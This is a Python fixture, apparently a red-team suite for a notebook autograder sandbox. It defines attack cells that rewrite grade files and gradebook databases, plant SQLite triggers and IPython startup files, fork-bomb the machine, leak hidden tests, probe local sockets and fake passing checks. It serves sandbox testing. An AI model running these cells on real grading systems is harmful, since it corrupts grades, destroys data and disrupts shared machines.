"""What a hostile student writes into a lab notebook to beat the grader.

Each attack is a cell written the way a student would write it: it searches what the
kernel can reach (the filesystem, /proc, the network tables, the interpreter) rather
than using anything it could only know from the grader's source. Most ride on a blank
lab, so the grade they deserve is 0; a few answer the lab too (``answered``) to show
that what they did cost only the exercise they did it in.

If the sandbox failed, these cells would: rewrite every grades.csv and gradebook they
find (now and later, from a process left behind), plant triggers, print hidden tests,
write into every writable folder, talk to every listener on this machine, poison the
kernels graded after them, or score full marks without answering anything.
"""

from __future__ import annotations

from dataclasses import dataclass

# shared by the attacks: every writable place and every database they can find
FIND = r'''
import os
def everything(limit=60000):
    """Every path this kernel can see, likeliest places first, without following links."""
    tops = [os.path.expanduser("~"), "/tmp", "/work", "/root", "/home", "/var", "/opt", "/srv", "/"]
    seen = 0
    for top in tops:
        for root, dirs, files in os.walk(top, followlinks=False):
            dirs[:] = [
                d for d in dirs
                if os.path.join(root, d) not in tops and not (root == "/" and d in ("proc", "sys"))
            ]
            for name in dirs + files:
                seen += 1
                if seen > limit:
                    return
                yield os.path.join(root, name)
'''


@dataclass(frozen=True)
class Attack:
    name: str
    code: str
    keyword: str = ""  # a word the grades.csv message must contain (the grader noticed)
    answered: bool = False  # the rest of the lab is answered with the solution
    in_exercise: bool = False  # the code replaces the first exercise's answer
    status: str | None = "graded"  # None: whatever the grader makes of it


ATTACKS = [
    Attack(
        "proc-ctypes-daemon",
        FIND
        + r"""
import ctypes
libc = ctypes.CDLL(None)
# a daemon that outlives the grader and rewrites every grades.csv it can find
script = (
    "while true; do for f in $(find / -name grades.csv -o -name 'gradebook*.db' 2>/dev/null);"
    " do echo hacked > $f; done; sleep 1; done"
)
libc.system(("nohup setsid sh -c '" + script + "' redteam-daemon >/dev/null 2>&1 &").encode())
libc.system(b"nohup setsid sleep 3600 >/dev/null 2>&1 &")
print("daemon started")
""",
    ),
    Attack(
        "proc-fork-exec",
        r"""
import _posixsubprocess, os, subprocess
# what subprocess.Popen does, minus its audit event
r, w = os.pipe()
argv = [b"/bin/sh", b"-c", b"sleep 3600 # redteam-fork-exec"]
pid = _posixsubprocess.fork_exec(
    argv, [argv[0]], True, (w,), None, None, -1, -1, -1, -1, -1, -1, r, w,
    True, True, -1, None, None, None, -1, None, False,
)
print("started", pid)
""",
    ),
    Attack(
        "proc-multiprocessing",
        r"""
import multiprocessing, time
def forever():
    import os
    while True:
        for root, dirs, files in os.walk("/"):
            for name in files:
                if name == "grades.csv":
                    open(os.path.join(root, name), "w").write("hacked")
        time.sleep(1)
ctx = multiprocessing.get_context("spawn")
child = ctx.Process(target=forever, name="redteam-mp")
child.daemon = False
child.start()
print("child", child.pid)
""",
    ),
    Attack(
        "proc-fork-bomb",
        r"""
import ctypes
libc = ctypes.CDLL(None)
for _ in range(100000):
    libc.fork()
""",
        status=None,
    ),
    Attack(
        "write-everywhere",
        FIND
        + r"""
import ctypes, os
libc = ctypes.CDLL(None)
hits = []
for path in everything():
    if os.path.isdir(path) and os.access(path, os.W_OK):
        # around the audit hook: a directory fd plus a relative name
        try:
            fd = os.open(path, os.O_RDONLY)
            out = os.open("pwned-by-redteam", os.O_CREAT | os.O_WRONLY, 0o666, dir_fd=fd)
            os.write(out, b"pwned")
            os.close(out)
            for name in os.listdir(path):
                if name.startswith("canary"):
                    os.remove(name, dir_fd=fd)  # delete what is there
            os.close(fd)
            hits.append(path)
        except OSError:
            pass
        # libc's open, which no audit hook sees
        libc.open((path + "/pwned-by-libc").encode(), 0o101, 0o666)
print(len(hits), "writable folders:", hits[:20])
""",
    ),
    Attack(
        "write-hardlink",
        FIND
        + r"""
import os
linked = 0
for path in everything():
    try:
        if os.path.isfile(path) and not os.path.islink(path) and os.access(path, os.W_OK):
            if path.startswith(os.path.expanduser("~")):
                continue
            alias = os.path.expanduser("~/link-%d" % linked)
            os.link(path, alias)  # a name inside my folder for a file outside it
            with open(alias, "a") as f:
                f.write("pwned through a hard link\n")
            linked += 1
    except OSError:
        pass
print(linked, "files changed through links")
""",
    ),
    Attack(
        "gradebook-sqlite",
        FIND
        + r"""
import os, sqlite3
for path in everything():
    if not path.endswith(".db"):
        continue
    try:
        db = sqlite3.connect(path)  # sqlite opens files in C: no audit event checks the path
        tables = [r[0] for r in db.execute("select name from sqlite_master where type='table'")]
        if "grade" in tables:
            db.execute("update grade set auto_score = 0, manual_score = 0")
            db.execute(
                "create trigger if not exists redteam after insert on grade begin "
                "update grade set auto_score = max_score; end"
            )
        if "grade_cells" in tables or "source_cells" in tables:
            db.execute("update source_cells set source = 'pass', checksum = null")
        db.commit()
        print("changed", path)
    except sqlite3.Error as error:
        print(path, error)
os._exit(0)  # so the grader retries, with the tests rewritten
""",
        keyword="kernel died",
        status="flagged",
    ),
    Attack(
        "ipython-startup",
        r"""
import os, pathlib
startup = pathlib.Path(os.environ.get("IPYTHONDIR", "~/.ipython")).expanduser()
startup = startup / "profile_default" / "startup"
startup.mkdir(parents=True, exist_ok=True)
# every later kernel that loads this fails every check
(startup / "00-redteam.py").write_text(
    "import builtins\nbuiltins.isinstance = lambda *a: False\nbuiltins.sorted = None\n"
)
for folder in ("/tmp", os.path.expanduser("~")):
    for root, dirs, files in os.walk(folder):
        if root.endswith("profile_default"):
            os.makedirs(root + "/startup", exist_ok=True)
            open(root + "/startup/00-redteam.py", "w").write("raise SystemExit")
print("planted")
""",
    ),
    Attack(
        "read-hidden-tests",
        FIND
        + r"""
import json, os
shown = 0
for path in everything():
    if not path.endswith(".ipynb") and not path.endswith(".db"):
        continue
    try:
        text = open(path, errors="replace").read()
    except OSError:
        continue
    if "BEGIN HIDDEN TESTS" in text or "submitted" in path:
        print("=====", path)
        print(text[:200000])
        shown += 1
print(shown, "notebooks shown")
# and the tests the kernel itself runs: every cell IPython has compiled
import linecache
def spy():
    for name, entry in list(linecache.cache.items()):
        print(name, "".join(entry[2]))
get_ipython().events.register("post_run_cell", lambda result: spy())
""",
    ),
    Attack(
        "network",
        r"""
import os, socket
def listeners(table):
    ports = set()
    for name in (table, table + "6"):
        try:
            lines = open("/proc/net/" + name).read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            local = line.split()[1]
            ports.add(int(local.split(":")[1], 16))
    return ports
tcp, udp = listeners("tcp") | {5432, 8888, 8000}, listeners("udp")
for port in sorted(tcp):
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=1)
        s.sendall(b"redteam\n")
        s.close()
        print("tcp", port, "reached")
    except OSError as error:
        print("tcp", port, error)
for port in sorted(udp):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.sendto(b"redteam", ("127.0.0.1", port))  # no audit hook looks at sendto
        print("udp", port, "sent")
    except OSError as error:
        print("udp", port, error)
try:
    paths = [l.split()[-1] for l in open("/proc/net/unix").read().splitlines()[1:]]
except OSError:
    paths = []
for path in paths:
    if path.startswith("/") or path.startswith("@"):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            s.connect(path.replace("@", "\0", 1))
            s.sendall(b"redteam\n")
            print("unix", path, "reached")
        except OSError:
            pass
""",
    ),
    Attack(
        "hook-transformer",
        r"""
ip = get_ipython()
def no_checks(lines):
    text = "".join(lines)
    return ["pass\n"] if "assert" in text else lines
ip.input_transformers_cleanup.append(no_checks)
ip.input_transformers_post.append(no_checks)
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
ip.ast_transformers.append(NoAsserts())
""",
    ),
    Attack(
        "hook-pre-run-cell",
        r"""
ip = get_ipython()
def say_ok(info):
    ip.displayhook("all checks passed")  # a non-numeric result, before the test's own output
ip.events.register("pre_run_cell", say_ok)
import sys, types
def quiet(*args):
    pass
ip.showtraceback = types.MethodType(lambda self, *a, **k: None, ip)  # errors vanish
sys.excepthook = quiet
""",
    ),
    Attack(
        "sigint-ignore",
        r"""
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
""",
        keyword="ignored the interrupt",
        status="flagged",
        answered=True,
        in_exercise=True,
    ),
    Attack(
        "memory-fill",
        r"""
hoard = []
while True:
    hoard.append(bytearray(100 * 1024 * 1024))
""",
        keyword="memory",
        status="flagged",
    ),
    Attack(
        "huge-output",
        r"""
print("x" * 200_000_000)
""",
        keyword="output",
        status="flagged",
    ),
    # 20,000 cells: the class script adds them
    Attack("many-cells", "", keyword="cells", status="flagged"),
]
